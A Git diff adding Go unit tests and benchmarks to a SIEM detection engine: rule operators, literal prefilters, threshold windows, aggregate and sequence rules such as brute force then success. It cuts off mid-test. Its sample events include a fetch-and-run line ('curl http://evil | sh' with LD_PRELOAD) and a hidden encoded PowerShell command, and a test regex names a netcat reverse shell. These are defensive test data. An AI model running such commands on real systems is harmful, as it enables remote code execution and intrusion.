@@ -1,9 +1,19 @@
 package detection
 
 import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"path/filepath"
+	"regexp/syntax"
+	"slices"
+	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"github.com/google/uuid"
+	"github.com/libyan-cooperation-org/OBLIVRA-Sovereign-SIEM-/internal/storage/sqlitestore"
 	"github.com/libyan-cooperation-org/OBLIVRA-Sovereign-SIEM-/pkg/models"
 )
 
@@ -73,6 +83,394 @@ func TestMatcher(t *testing.T) {
 	}
 }
 
+func TestMatcherOperators(t *testing.T) {
+	m := NewMatcher()
+	ev := &models.Event{
+		Message: "Failed login attempt for user admin",
+		Host:    "srv-auth-01",
+		User:    "Admin",
+		Fields: map[string]interface{}{
+			"bytes": 4096, "src_ip": "10.1.2.3", "dst_ip": "10.1.2.3", "port": "22", "limit": 1000,
+		},
+	}
+	arr := func(v ...interface{}) []interface{} { return v }
+
+	tests := []struct {
+		name string
+		cond Condition
+		want bool
+	}{
+		{"eq is case-sensitive", Condition{Field: "user", Operator: "eq", Value: "admin"}, false},
+		{"eq insensitive", Condition{Field: "user", Operator: "eq", Value: "admin", Case: "insensitive"}, true},
+		{"eq numeric", Condition{Field: "port", Operator: "eq", Value: 22.0}, true},
+		{"neq", Condition{Field: "host", Operator: "neq", Value: "srv-web-01"}, true},
+		{"gt", Condition{Field: "bytes", Operator: "gt", Value: 1024.0}, true},
+		{"gt numeric string", Condition{Field: "bytes", Operator: "gt", Value: "5000"}, false},
+		{"gte", Condition{Field: "port", Operator: "gte", Value: 22.0}, true},
+		{"lt", Condition{Field: "port", Operator: "lt", Value: 1024.0}, true},
+		{"lte non-numeric field", Condition{Field: "host", Operator: "lte", Value: 10.0}, false},
+		{"in", Condition{Field: "port", Operator: "in", Value: arr(22.0, 23.0, "3389")}, true},
+		{"not_in", Condition{Field: "user", Operator: "not_in", Value: arr("root", "guest")}, true},
+		{"not_in insensitive", Condition{Field: "user", Operator: "not_in", Value: arr("admin"), Case: "insensitive"}, false},
+		{"cidr", Condition{Field: "src_ip", Operator: "cidr", Value: "10.0.0.0/8"}, true},
+		{"cidr list", Condition{Field: "src_ip", Operator: "cidr", Value: arr("192.168.0.0/16", "10.1.2.3")}, true},
+		{"cidr outside", Condition{Field: "src_ip", Operator: "cidr", Value: "172.16.0.0/12"}, false},
+		{"cidr non-address", Condition{Field: "host", Operator: "cidr", Value: "10.0.0.0/8"}, false},
+		{"startswith", Condition{Field: "host", Operator: "startswith", Value: "SRV-"}, true},
+		{"startswith sensitive", Condition{Field: "host", Operator: "startswith", Value: "SRV-", Case: "sensitive"}, false},
+		{"endswith", Condition{Field: "message", Operator: "endswith", Value: "admin"}, true},
+		{"regex insensitive", Condition{Field: "message", Operator: "regex", Value: "^failed", Case: "insensitive"}, true},
+		{"exists", Condition{Field: "src_ip", Operator: "exists"}, true},
+		{"missing", Condition{Field: "process", Operator: "missing"}, true},
+		{"field ref eq", Condition{Field: "src_ip", Operator: "eq", FieldRef: "dst_ip"}, true},
+		{"field ref gt", Condition{Field: "bytes", Operator: "gt", FieldRef: "limit"}, true},
+		{"field ref unset", Condition{Field: "src_ip", Operator: "neq", FieldRef: "process"}, false},
+		{"not", Condition{Logical: "not", Nested: []Condition{
+			{Field: "user", Operator: "eq", Value: "Admin"},
+			{Field: "host", Operator: "eq", Value: "srv-web-01"},
+		}}, true},
+		{"not of match", Condition{Logical: "not", Nested: []Condition{
+			{Field: "src_ip", Operator: "cidr", Value: "10.0.0.0/8"},
+		}}, false},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if err := tt.cond.Validate(); err != nil {
+				t.Fatalf("Validate: %v", err)
+			}
+			if got := m.Matches(ev, tt.cond); got != tt.want {
+				t.Errorf("Matches = %v, want %v", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestConditionValidate(t *testing.T) {
+	for _, c := range []Condition{
+		{Field: "user", Operator: "like", Value: "admin"},
+		{Field: "user", Operator: "regex", Value: "("},
+		{Field: "bytes", Operator: "gt", Value: "many"},
+		{Field: "user", Operator: "in", Value: "admin"},
+		{Field: "src_ip", Operator: "cidr", Value: "10.0.0.0/33"},
+		{Field: "user", Operator: "eq", Value: "admin", Case: "upper"},
+		{Operator: "eq", Value: "admin"},
+		{Logical: "xor", Nested: []Condition{{Field: "user", Operator: "exists"}}},
+		{Logical: "or", Nested: []Condition{{Field: "user", Operator: "exists"}, {Field: "user", Operator: "gt"}}},
+	} {
+		if err := c.Validate(); err == nil {
+			t.Errorf("Validate(%+v) = nil, want error", c)
+		}
+	}
+	for _, r := range defaultRules {
+		var c Condition
+		if err := json.Unmarshal([]byte(r.condition), &c); err != nil {
+			t.Fatalf("seed rule %s: %v", r.name, err)
+		}
+		if err := c.Validate(); err != nil {
+			t.Errorf("seed rule %s: %v", r.name, err)
+		}
+	}
+}
+
+func TestLoadRulesRejectsUnknownOperator(t *testing.T) {
+	db, err := sqlitestore.Open(filepath.Join(t.TempDir(), "rules.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	now := time.Now()
+	for id, cond := range map[string]string{
+		"good-rule": `{"field":"user","operator":"eq","value":"root"}`,
+		"bad-rule1": `{"field":"user","operator":"equals","value":"root"}`,
+	} {
+		if err := db.InsertRule(&sqlitestore.RuleRecord{ID: id, Name: id, Severity: "HIGH", Enabled: true,
+			Condition: cond, Threshold: 1, CreatedAt: now, UpdatedAt: now}); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	e := NewEngine(func(context.Context, *models.Alert) error { return nil }, nil)
+	err = e.LoadRules(db)
+	if err == nil || !strings.Contains(err.Error(), `bad-rule1: field user: unknown operator "equals"`) {
+		t.Fatalf("LoadRules = %v, want the unknown operator reported", err)
+	}
+	if e.RuleCount() != 1 {
+		t.Errorf("loaded %d rules, want the valid one", e.RuleCount())
+	}
+}
+
+func TestAhoCorasick(t *testing.T) {
+	ac := newAhoCorasick([]string{"he", "she", "his", "hers"})
+	var found []int
+	ac.scan("ushers and this", func(id int) { found = append(found, id) })
+	slices.Sort(found)
+	if want := []int{0, 1, 2, 3}; !slices.Equal(found, want) {
+		t.Errorf("found %v, want %v", found, want)
+	}
+	found = nil
+	ac.scan("nothing to see", func(id int) { found = append(found, id) })
+	if len(found) != 0 {
+		t.Errorf("found %v in text without literals", found)
+	}
+}
+
+func TestRequiredLiterals(t *testing.T) {
+	// The parser factors common prefixes out of alternations, which changes
+	// which literals are found but not whether they are required.
+	for pattern, want := range map[string][]string{
+		"EventID.*4625":                  {"EventID"},
+		"(?i)iex|invoke-expression":      {"EX", "NVOKE-EXPRESSION"},
+		"(?i)cron.*edited|cron.*install": {"EDITED", "INSTALL"},
+		"[a-z0-9]{20,}\\.(com|net|org)":  {"com", "net", "org"},
+		"a*b":                            nil,
+		"(?i)nc.*-e.*/bin/":              {"/BIN/"},
+	} {
+		re, err := syntax.Parse(pattern, syntax.Perl)
+		if err != nil {
+			t.Fatal(err)
+		}
+		var got []string
+		for _, l := range requiredLiterals(re.Simplify()) {
+			text := l.text
+			if l.fold {
+				text = foldCase(text)
+			}
+			got = append(got, text)
+		}
+		if !slices.Equal(got, want) {
+			t.Errorf("requiredLiterals(%q) = %q, want %q", pattern, got, want)
+		}
+	}
+}
+
+// seedRules compiles the built-in rule catalogue.
+func seedRules(tb testing.TB) []Rule {
+	tb.Helper()
+	var rules []Rule
+	for _, r := range defaultRules {
+		var cond Condition
+		if err := json.Unmarshal([]byte(r.condition), &cond); err != nil {
+			tb.Fatal(err)
+		}
+		rules = append(rules, Rule{ID: r.id, Name: r.name, Severity: models.Severity(r.severity), Condition: cond, Threshold: 1})
+	}
+	return rules
+}
+
+func sampleEvents() []*models.Event {
+	return []*models.Event{
+		{Source: "sshd", Host: "web-01", Message: "Failed password for root from 10.0.0.9 port 22 ssh2"},
+		{Source: "sshd", Host: "web-01", Message: "Accepted password for root from 10.0.0.9"},
+		{Source: "windows", Host: "dc-01", Message: "An account failed to log on. EventID: 4625"},
+		{Source: "sudo", Host: "web-01", Message: "alice : TTY=pts/0 ; COMMAND=/bin/bash; NOPASSWD"},
+		{Source: "fim", Host: "db-01", Category: "file", Message: "file modified /etc/passwd"},
+		{Source: "auditd", Host: "db-01", Message: "execve LD_PRELOAD=/tmp/x.so curl http://evil | sh"},
+		{Source: "nginx", Host: "web-02", Message: "GET /index.html 200"},
+		{Source: "powershell", Host: "ws-07", Message: "powershell.exe -EncodedCommand SQBFAFgA -nop -w hidden"},
+		{Source: "sshd", Host: "web-03", Message: "FAILED PAſſWORD FOR ADMIN"}, // ſ folds to s under (?i)
+	}
+}
+
+func TestRuleSetAgreesWithMatcher(t *testing.T) {
+	m := NewMatcher()
+	rs := newRuleSet()
+	rules := seedRules(t)
+	for _, r := range rules {
+		if err := rs.add(r); err != nil {
+			t.Fatalf("rule %s: %v", r.ID, err)
+		}
+	}
+	rs.build()
+
+	matched := 0
+	for _, ev := range sampleEvents() {
+		s := rs.state(ev, nil)
+		cands := map[int]bool{}
+		for _, i := range rs.candidates(s) {
+			cands[i] = true
+		}
+		for i, r := range rules {
+			want := m.Matches(ev, r.Condition)
+			got := cands[i] && rs.matches(s, i)
+			if got != want {
+				t.Errorf("rule %s on %q: compiled %v, interpreted %v", r.ID, ev.Message, got, want)
+			}
+			if got {
+				matched++
+			}
+		}
+		rs.release(s)
+	}
+	if matched == 0 {
+		t.Error("no sample event matched any rule")
+	}
+}
+
+func TestRuleSetIndex(t *testing.T) {
+	rs := newRuleSet()
+	for _, r := range []Rule{
+		{ID: "ssh", Condition: Condition{Logical: "and", Nested: []Condition{
+			{Field: "source", Operator: "eq", Value: "sshd"},
+			{Field: "message", Operator: "contains", Value: "Failed"},
+		}}},
+		{ID: "file", Condition: Condition{Field: "category", Operator: "in", Value: []interface{}{"file", "registry"}}},
+		{ID: "any", Condition: Condition{Field: "message", Operator: "contains", Value: "Failed"}},
+	} {
+		if err := rs.add(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rs.build()
+
+	for _, tt := range []struct {
+		ev   *models.Event
+		want []int
+	}{
+		{&models.Event{Source: "SSHD", Message: "Failed"}, []int{0, 2}},
+		{&models.Event{Source: "nginx", Category: "File"}, []int{1, 2}},
+		{&models.Event{Source: "nginx"}, []int{2}},
+	} {
+		s := rs.state(tt.ev, nil)
+		if got := rs.candidates(s); !slices.Equal(got, tt.want) {
+			t.Errorf("candidates(%+v) = %v, want %v", tt.ev, got, tt.want)
+		}
+		rs.release(s)
+	}
+}
+
+func TestProcessEventConcurrent(t *testing.T) {
+	var mu sync.Mutex
+	alerts := 0
+	e := NewEngine(func(context.Context, *models.Alert) error {
+		mu.Lock()
+		alerts++
+		mu.Unlock()
+		return nil
+	}, nil)
+	rs := newRuleSet()
+	for _, r := range seedRules(t) {
+		if err := rs.add(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rs.build()
+	e.rules = rs
+
+	var wg sync.WaitGroup
+	for g := 0; g < 8; g++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i, ev := range sampleEvents() {
+				ev.Host = fmt.Sprintf("host-%d-%d", g, i)
+				e.ProcessEvent(context.Background(), ev)
+			}
+		}()
+	}
+	wg.Wait()
+	if alerts == 0 {
+		t.Error("no alerts raised")
+	}
+}
+
+// ─── Benchmarks ───────────────────────────────────────────────────────────────
+
+func benchEngine(b *testing.B) *Engine {
+	e := NewEngine(func(context.Context, *models.Alert) error { return nil }, nil)
+	e.dedup = NewDeduplicator(0)
+	rs := newRuleSet()
+	for _, r := range seedRules(b) {
+		if err := rs.add(r); err != nil {
+			b.Fatal(err)
+		}
+	}
+	rs.build()
+	e.rules = rs
+	return e
+}
+
+func BenchmarkProcessEvent(b *testing.B) {
+	e := benchEngine(b)
+	events := sampleEvents()
+	ctx := context.Background()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		e.ProcessEvent(ctx, events[i%len(events)])
+	}
+	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+}
+
+func BenchmarkProcessEventParallel(b *testing.B) {
+	e := benchEngine(b)
+	ctx := context.Background()
+	b.ReportAllocs()
+	b.ResetTimer()
+	b.RunParallel(func(pb *testing.PB) {
+		events := sampleEvents()
+		for i := 0; pb.Next(); i++ {
+			e.ProcessEvent(ctx, events[i%len(events)])
+		}
+	})
+	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+}
+
+// BenchmarkInterpreted evaluates the same rules one at a time through
+// Matcher, without the rule index or literal prefilter, for comparison.
+func BenchmarkInterpreted(b *testing.B) {
+	m := NewMatcher()
+	rules := seedRules(b)
+	events := sampleEvents()
+	b.ReportAllocs()
+	b.ResetTimer()
+	for i := 0; i < b.N; i++ {
+		ev := events[i%len(events)]
+		for _, r := range rules {
+			m.Matches(ev, r.Condition)
+		}
+	}
+	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
+}
+
+// fakeLookups holds tables by tenant, then name; "" holds the global ones.
+type fakeLookups map[string]map[string]map[string]bool
+
+func (f fakeLookups) Contains(tenant, table, value string) bool {
+	if t, ok := f[tenant][table]; ok {
+		return t[value]
+	}
+	return f[""][table][value]
+}
+
+func TestMatcherLookup(t *testing.T) {
+	m := NewMatcher()
+	ev := &models.Event{User: "ceo", Host: "build-07"}
+	inVIP := Condition{Field: "user", Operator: "in_lookup", Value: "vip_users"}
+
+	if m.Matches(ev, inVIP) {
+		t.Error("in_lookup must not match without lookup tables")
+	}
+	m.lookups = fakeLookups{"": {"vip_users": {"ceo": true}}}
+	if !m.Matches(ev, inVIP) {
+		t.Error("expected in_lookup match for ceo")
+	}
+	if m.Matches(ev, Condition{Field: "host", Operator: "in_lookup", Value: "vip_users"}) {
+		t.Error("unexpected in_lookup match for host")
+	}
+	if !m.Matches(ev, Condition{Field: "host", Operator: "not_in_lookup", Value: "crown_jewels"}) {
+		t.Error("expected not_in_lookup match against unknown table")
+	}
+
+	// The event's tenant sees its own table first, then the global one.
+	m.lookups = fakeLookups{"": {"vip_users": {"ceo": true}}, "acme": {"vip_users": {"cfo": true}}}
+	if m.Matches(&models.Event{Tenant: "acme", User: "ceo"}, inVIP) {
+		t.Error("acme's own vip_users table should shadow the global one")
+	}
+	if !m.Matches(&models.Event{Tenant: "acme", User: "cfo"}, inVIP) || !m.Matches(ev, inVIP) {
+		t.Error("expected in_lookup match against the tenant's or the global table")
+	}
+}
+
 func TestThresholdTracker(t *testing.T) {
 	tt := NewThresholdTracker()
 	ruleID := "rule-1"
@@ -104,3 +502,504 @@ func TestThresholdTracker(t *testing.T) {
 		t.Error("Threshold reached after clear")
 	}
 }
+
+func TestHyperLogLog(t *testing.T) {
+	var h hyperLogLog
+	for i := 0; i < 50; i++ {
+		h.add(fmt.Sprintf("user%d", i))
+		h.add(fmt.Sprintf("user%d", i)) // duplicates do not count
+	}
+	if got := h.estimate(); got != 50 || h.dense != nil {
+		t.Errorf("small set: estimate %v (dense %v), want exactly 50 from the sparse form", got, h.dense != nil)
+	}
+	var other hyperLogLog
+	for i := 40; i < 60; i++ {
+		other.add(fmt.Sprintf("user%d", i))
+	}
+	if got := hllUnion([]*hyperLogLog{&h, &other}); got != 60 {
+		t.Errorf("union = %v, want exactly 60", got)
+	}
+	for i := 50; i < 20000; i++ {
+		h.add(fmt.Sprintf("user%d", i))
+	}
+	if got := h.estimate(); got < 19000 || got > 21000 || len(h.dense) != hllM {
+		t.Errorf("large set: estimate %v, want 20000 ± 5%% in %d registers", got, len(h.dense))
+	}
+}
+
+func TestThresholdTrackerWindows(t *testing.T) {
+	tt := NewThresholdTracker()
+	t0 := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+	at := func(s int) time.Time { return t0.Add(time.Duration(s) * time.Second) }
+
+	sliding := Window{Function: AggCount, Length: time.Minute}
+	tumbling := Window{Function: AggCount, Length: time.Minute, Tumbling: true}
+	for _, s := range []int{0, 20, 50} {
+		tt.Add("sliding", sliding, "", at(s))
+		tt.Add("tumbling", tumbling, "", at(s))
+	}
+	// At 70s the sliding window still holds 20s and 50s; the tumbling one
+	// started afresh at 60s.
+	if got := tt.Add("sliding", sliding, "", at(70)); got != 3 {
+		t.Errorf("sliding count = %v, want 3", got)
+	}
+	if got := tt.Add("tumbling", tumbling, "", at(70)); got != 1 {
+		t.Errorf("tumbling count = %v, want 1", got)
+	}
+
+	bytes := Window{Function: AggSum, Length: time.Hour}
+	largest := Window{Function: AggMax, Length: time.Hour}
+	for i, v := range []string{"1500", "-20", "40000", "2.5"} {
+		tt.Add("sum", bytes, v, at(i))
+		tt.Add("max", largest, v, at(i*1000))
+	}
+	if got := tt.Add("sum", bytes, "0", at(10)); got != 41482.5 {
+		t.Errorf("sum = %v, want 41482.5", got)
+	}
+	if got := tt.Add("max", largest, "-1", at(3001)); got != 40000 {
+		t.Errorf("max = %v, want 40000", got)
+	}
+
+	users := Window{Function: AggDistinctCount, Length: 10 * time.Minute}
+	for i := 0; i < 30; i++ {
+		tt.Add("distinct", users, fmt.Sprintf("user%d", i%10), at(i*10))
+	}
+	if got := tt.Add("distinct", users, "user99", at(300)); got != 11 {
+		t.Errorf("distinct = %v, want 11", got)
+	}
+	if got := tt.Add("distinct", users, "user99", at(1000)); got != 1 {
+		t.Errorf("distinct after the window = %v, want 1", got)
+	}
+
+	tt.limit = 5
+	for i := 0; i < 20; i++ {
+		tt.Add(fmt.Sprintf("key%d", i), sliding, "", at(2000+i))
+	}
+	if n := len(tt.counters); n > 5 {
+		t.Errorf("%d keys, want at most 5", n)
+	}
+}
+
+func TestAggregateRule(t *testing.T) {
+	log := &alertLog{}
+	e := NewEngine(log.handle, nil)
+	rs := newRuleSet()
+	spray := Rule{
+		ID: "agg-password-spray", Name: "Password spraying", Severity: models.SeverityHigh,
+		Condition: Condition{Field: "message", Operator: "contains", Value: "Failed password"},
+		Threshold: 10, TimeWindow: 600,
+		Aggregate: &Aggregate{GroupBy: []string{"src_ip"}, Function: "distinct_count", Field: "user"},
+	}
+	if err := rs.add(spray); err != nil {
+		t.Fatal(err)
+	}
+	for _, bad := range []*Aggregate{
+		{Function: "avg", Field: "bytes"},
+		{Function: "sum"},
+		{Function: "count", Field: "user"},
+		{Window: "hopping"},
+	} {
+		r := spray
+		r.Aggregate = bad
+		if err := rs.add(r); err == nil {
+			t.Errorf("aggregate %+v accepted", bad)
+		}
+	}
+	rs.build()
+	e.rules = rs
+
+	ctx := context.Background()
+	fail := func(ip, user string) {
+		e.ProcessEvent(ctx, &models.Event{Host: "bastion", User: user, Message: "Failed password for " + user,
+			Fields: map[string]interface{}{"src_ip": ip}})
+	}
+	// Many failures for one user from one address are not spraying.
+	for i := 0; i < 30; i++ {
+		fail("10.0.0.1", "root")
+	}
+	for i := 0; i < 9; i++ {
+		fail("10.0.0.2", fmt.Sprintf("user%d", i))
+	}
+	if got := log.take(); len(got) != 0 {
+		t.Fatalf("alerts below the threshold: %v", got)
+	}
+	fail("10.0.0.2", "user9")
+	got := log.take()
+	if len(got) != 1 {
+		t.Fatalf("got %d alerts, want 1", len(got))
+	}
+	if a := got[0]; a.Metadata["src_ip"] != "10.0.0.2" || a.Metadata["aggregate"] != "distinct_count(user)=10" ||
+		!strings.Contains(a.Summary, "for src_ip=10.0.0.2") {
+		t.Errorf("alert = %+v", a)
+	}
+	// The group starts over after firing.
+	fail("10.0.0.2", "user10")
+	if got := log.take(); len(got) != 0 {
+		t.Errorf("alerts after firing: %v", got)
+	}
+}
+
+// ─── Sequences ────────────────────────────────────────────────────────────────
+
+type alertLog struct {
+	mu     sync.Mutex
+	alerts []*models.Alert
+}
+
+func (l *alertLog) handle(_ context.Context, a *models.Alert) error {
+	l.mu.Lock()
+	l.alerts = append(l.alerts, a)
+	l.mu.Unlock()
+	return nil
+}
+
+func (l *alertLog) take() []*models.Alert {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	out := l.alerts
+	l.alerts = nil
+	return out
+}
+
+func sequenceEngine(t *testing.T, seqs ...Rule) (*Engine, *alertLog) {
+	t.Helper()
+	log := &alertLog{}
+	e := NewEngine(log.handle, nil)
+	rs := newRuleSet()
+	for _, r := range seqs {
+		if err := rs.add(r); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rs.build()
+	e.rules = rs
+	return e, log
+}
+
+func authEvent(id, user, msg string, ts time.Time) *models.Event {
+	return &models.Event{ID: id, Source: "sshd", Host: "bastion", User: user, Message: msg, Timestamp: ts}
+}
+
+var bruteForceThenSuccess = Rule{
+	ID: "seq-brute-success", Name: "Brute force then success", Severity: models.SeverityCritical,
+	Sequence: &Sequence{
+		By:      []string{"user"},
+		MaxSpan: 600,
+		Steps: []Step{
+			{Name: "failures", Count: 5, Condition: Condition{Field: "message", Operator: "contains", Value: "Failed password"}},
+			{Name: "success", Condition: Condition{Field: "message", Operator: "contains", Value: "Accepted password"}},
+		},
+	},
+}
+
+func TestSequenceOrdered(t *testing.T) {
+	e, log := sequenceEngine(t, bruteForceThenSuccess)
+	ctx := context.Background()
+	t0 := time.Now().Add(-time.Hour)
+	at := func(s int) time.Time { return t0.Add(time.Duration(s) * time.Second) }
+
+	// A success before the failures, and one after too few, do not count.
+	e.ProcessEvent(ctx, authEvent("s0", "alice", "Accepted password for alice", at(0)))
+	for i := 1; i <= 4; i++ {
+		e.ProcessEvent(ctx, authEvent(fmt.Sprintf("f%d", i), "alice", "Failed password for alice", at(i*10)))
+	}
+	e.ProcessEvent(ctx, authEvent("other", "bob", "Accepted password for bob", at(45)))
+	e.ProcessEvent(ctx, authEvent("s1", "alice", "Accepted password for alice", at(46)))
+	if got := log.take(); len(got) != 0 {
+		t.Fatalf("alerts after four failures: %v", got)
+	}
+
+	// The success ended the run; a longer run slides to its last five failures.
+	for i := 5; i <= 12; i++ {
+		e.ProcessEvent(ctx, authEvent(fmt.Sprintf("f%d", i), "alice", "Failed password for alice", at(i*10)))
+	}
+	e.ProcessEvent(ctx, authEvent("s2", "alice", "Accepted password for alice", at(130)))
+	got := log.take()
+	if len(got) != 1 {
+		t.Fatalf("got %d alerts, want 1", len(got))
+	}
+	a := got[0]
+	want := []string{"f8", "f9", "f10", "f11", "f12", "s2"}
+	if !slices.Equal(a.EventIDs, want) || a.EventID != "s2" {
+		t.Errorf("EventIDs = %v (EventID %s), want %v", a.EventIDs, a.EventID, want)
+	}
+	if a.Metadata["user"] != "alice" || a.Host != "bastion" || !a.Timestamp.Equal(at(130)) {
+		t.Errorf("alert = %+v", a)
+	}
+
+	// Failures spread wider than maxspan never complete the first step.
+	for i := 0; i < 5; i++ {
+		e.ProcessEvent(ctx, authEvent(fmt.Sprintf("g%d", i), "carol", "Failed password for carol", at(200+i*200)))
+	}
+	e.ProcessEvent(ctx, authEvent("s3", "carol", "Accepted password for carol", at(1010)))
+	if got := log.take(); len(got) != 0 {
+		t.Errorf("alerts for failures outside maxspan: %v", got)
+	}
+}
+
+func TestSequenceUnordered(t *testing.T) {
+	e, log := sequenceEngine(t, Rule{
+		ID: "seq-service-beacon", Name: "New service and outbound connection", Severity: models.SeverityHigh,
+		Sequence: &Sequence{
+			By:        []string{"host"},
+			MaxSpan:   60,
+			Unordered: true,
+			Steps: []Step{
+				{Name: "service", Condition: Condition{Field: "category", Operator: "eq", Value: "Service_Install"}},
+				{Name: "connect", Condition: Condition{Field: "category", Operator: "eq", Value: "Network_Connect"}},
+			},
+		},
+	})
+	ctx := context.Background()
+	t0 := time.Now()
+	ev := func(id, host, category string, s int) *models.Event {
+		return &models.Event{ID: id, Host: host, Category: category, Timestamp: t0.Add(time.Duration(s) * time.Second)}
+	}
+
+	e.ProcessEvent(ctx, ev("c1", "ws-1", "Network_Connect", 0))
+	e.ProcessEvent(ctx, ev("s1", "ws-2", "Service_Install", 1))
+	e.ProcessEvent(ctx, ev("s2", "ws-1", "Service_Install", 30))
+	e.ProcessEvent(ctx, ev("c2", "ws-2", "Network_Connect", 100))
+	got := log.take()
+	if len(got) != 1 || got[0].Host != "ws-1" || !slices.Equal(got[0].EventIDs, []string{"c1", "s2"}) {
+		t.Fatalf("alerts = %+v, want ws-1 with c1, s2", got)
+	}
+}
+
+func TestSequenceAbsence(t *testing.T) {
+	e, log := sequenceEngine(t, Rule{
+		ID: "seq-backup-unfinished", Name: "Backup started but not finished", Severity: models.SeverityMedium,
+		Sequence: &Sequence{
+			By:      []string{"host"},
+			MaxSpan: 300,
+			Steps: []Step{
+				{Name: "start", Condition: Condition{Field: "message", Operator: "eq", Value: "backup started"}},
+				{Name: "finish", Absent: true, Condition: Condition{Field: "message", Operator: "eq", Value: "backup finished"}},
+			},
+		},
+	})
+	ctx := context.Background()
+	t0 := time.Now()
+	ev := func(id, host, msg string, s int) *models.Event {
+		return &models.Event{ID: id, Host: host, Message: msg, Timestamp: t0.Add(time.Duration(s) * time.Second)}
+	}
+
+	e.ProcessEvent(ctx, ev("a1", "db-1", "backup started", 0))
+	e.ProcessEvent(ctx, ev("a2", "db-2", "backup started", 0))
+	e.ProcessEvent(ctx, ev("b1", "db-1", "backup finished", 120))
+	// Sweeps measure time from the latest event, b1 at 120s.
+	e.sweepSequences(ctx, time.Now().Add(150*time.Second))
+	if got := log.take(); len(got) != 0 {
+		t.Fatalf("alerts before the window closed: %v", got)
+	}
+	e.sweepSequences(ctx, time.Now().Add(190*time.Second))
+	got := log.take()
+	if len(got) != 1 || got[0].Host != "db-2" || !slices.Equal(got[0].EventIDs, []string{"a2"}) {
+		t.Fatalf("alerts = %+v, want db-2 with a2", got)
+	}
+	if !strings.Contains(got[0].Summary, "start was not followed by step finish") {
+		t.Errorf("summary = %q", got[0].Summary)
+	}
+
+	// A later event for the key also closes an overdue window.
+	e.ProcessEvent(ctx, ev("a3", "db-3", "backup started", 400))
+	e.ProcessEvent(ctx, ev("a4", "db-3", "backup started", 800))
+	if got := log.take(); len(got) != 1 || got[0].EventID != "a3" {
+		t.Fatalf("alerts = %+v, want the overdue a3", got)
+	}
+}
+
+func TestSequenceBoundedState(t *testing.T) {
+	e, log := sequenceEngine(t, bruteForceThenSuccess)
+	tr := e.rules.sequences[0].tracker
+	tr.limit = 3
+	ctx := context.Background()
+	t0 := time.Now()
+	for i := 0; i < 10; i++ {
+		e.ProcessEvent(ctx, authEvent(fmt.Sprintf("f%d", i), fmt.Sprintf("user%d", i), "Failed password", t0.Add(time.Duration(i)*time.Second)))
+	}
+	if n := len(tr.instances); n != 3 {
+		t.Errorf("%d instances, want the limit of 3", n)
+	}
+	if _, ok := tr.instances["default\x00user9"]; !ok {
+		t.Error("newest instance evicted")
+	}
+	if got := log.take(); len(got) != 0 {
+		t.Errorf("eviction raised alerts: %v", got)
+	}
+	// Events that lack a join key value are ignored.
+	e.ProcessEvent(ctx, authEvent("nouser", "", "Failed password", t0))
+	if n := len(tr.instances); n != 3 {
+		t.Errorf("%d instances after an unjoinable event", n)
+	}
+}
+
+func TestSequenceValidate(t *testing.T) {
+	step := func(absent bool) Step {
+		return Step{Absent: absent, Condition: Condition{Field: "user", Operator: "exists"}}
+	}
+	for _, tt := range []struct {
+		seq  Sequence
+		want string
+	}{
+		{Sequence{MaxSpan: 60, Steps: []Step{step(false)}}, "2 to 16 steps"},
+		{Sequence{Steps: []Step{step(false), step(false)}}, "positive maxspan"},
+		{Sequence{MaxSpan: 60, Steps: []Step{step(true), step(false)}}, "only the last step"},
+		{Sequence{MaxSpan: 60, Unordered: true, Steps: []Step{step(false), step(true)}}, "only the last step"},
+		{Sequence{MaxSpan: 60, Steps: []Step{step(false), {Condition: Condition{Field: "user", Operator: "like"}}}}, `step 2: field user: unknown operator "like"`},
+		{Sequence{MaxSpan: 60, Steps: []Step{step(false), step(true)}}, ""},
+	} {
+		err := tt.seq.Validate()
+		if (err == nil) != (tt.want == "") || err != nil && !strings.Contains(err.Error(), tt.want) {
+			t.Errorf("Validate(%+v) = %v, want %q", tt.seq, err, tt.want)
+		}
+	}
+}
+
+func TestLoadRulesKeepsSequenceState(t *testing.T) {
+	db, err := sqlitestore.Open(filepath.Join(t.TempDir(), "rules.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer db.Close()
+	cond, _ := json.Marshal(RuleCondition{Sequence: bruteForceThenSuccess.Sequence})
+	rec := &sqlitestore.RuleRecord{ID: bruteForceThenSuccess.ID, Name: "seq", Severity: "HIGH", Enabled: true,
+		Condition: string(cond), Threshold: 1, CreatedAt: time.Now(), UpdatedAt: time.Now()}
+	if err := db.InsertRule(rec); err != nil {
+		t.Fatal(err)
+	}
+
+	log := &alertLog{}
+	e := NewEngine(log.handle, nil)
+	if err := e.LoadRules(db); err != nil {
+		t.Fatal(err)
+	}
+	ctx := context.Background()
+	t0 := time.Now()
+	fail := func(n int) {
+		for i := 0; i < n; i++ {
+			e.ProcessEvent(ctx, authEvent(fmt.Sprintf("f%d", i), "alice", "Failed password", t0.Add(time.Duration(i)*time.Second)))
+		}
+	}
+	success := authEvent("ok", "alice", "Accepted password", t0.Add(time.Minute))
+
+	fail(5)
+	if err := e.ReloadRules(db); err != nil {
+		t.Fatal(err)
+	}
+	e.ProcessEvent(ctx, success)
+	if got := log.take(); len(got) != 1 || len(got[0].EventIDs) != 6 {
+		t.Fatalf("alerts = %+v, want one with six events across the reload", got)
+	}
+
+	fail(5)
+	rec.Condition = strings.Replace(rec.Condition, `"maxspan":600`, `"maxspan":900`, 1)
+	if err := db.InsertRule(rec); err != nil {
+		t.Fatal(err)
+	}
+	if err := e.ReloadRules(db); err != nil {
+		t.Fatal(err)
+	}
+	e.ProcessEvent(ctx, success)
+	if got := log.take(); len(got) != 0 {
